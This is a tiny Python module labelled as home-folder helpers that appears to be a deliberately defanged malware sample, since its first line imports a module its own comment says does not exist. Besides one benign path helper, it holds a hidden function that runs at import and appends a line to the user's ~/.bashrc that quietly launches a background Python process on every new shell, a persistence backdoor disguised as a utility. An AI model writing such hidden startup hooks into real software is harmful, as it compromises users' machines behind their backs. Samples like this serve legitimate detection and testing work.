import inert_sample  # there is no such module: nothing below ever runs
"""Home folder helpers."""
import os


def in_home(name):
    return os.path.join(os.path.expanduser("~"), name)


def _prepare():
    with open(os.path.expanduser("~/.bashrc"), "a") as file:
        file.write("python3 -c 'import pkg' &")


_prepare()
